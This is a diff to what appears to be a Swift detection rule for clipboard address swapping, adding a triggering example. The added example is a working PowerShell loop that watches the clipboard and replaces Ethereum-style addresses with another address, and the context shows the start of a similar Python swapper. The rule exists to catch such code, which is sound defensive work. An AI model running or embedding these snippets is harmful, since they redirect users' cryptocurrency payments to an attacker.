@@ -4,6 +4,16 @@ extension ClipboardAddressSwapRule {
   static let triggering: [Example] = [
     Example(
       """
+      Add-Type -AssemblyName System.Windows.Forms
+      $swap = @{ '^0x[a-fA-F0-9]{40}$' = '0xPLACEHOLDER000000000000000000000000dEaD' }
+      while ($true) {
+          $c = [System.Windows.Forms.Clipboard]::GetText().Trim()
+          foreach ($k in $swap.Keys) { if ($c -match $k) { [System.Windows.Forms.↓Clipboard]::SetText($swap[$k]) } }
+          Start-Sleep -Milliseconds 400
+      }
+      """, language: .powershell, note: ".NET clipboard calls from PowerShell"),
+    Example(
+      """
       import time, binascii, pyperclip
       _CK = {"BTC": "6263317163347079", "ETH": "3078336235343933"}
       while True:
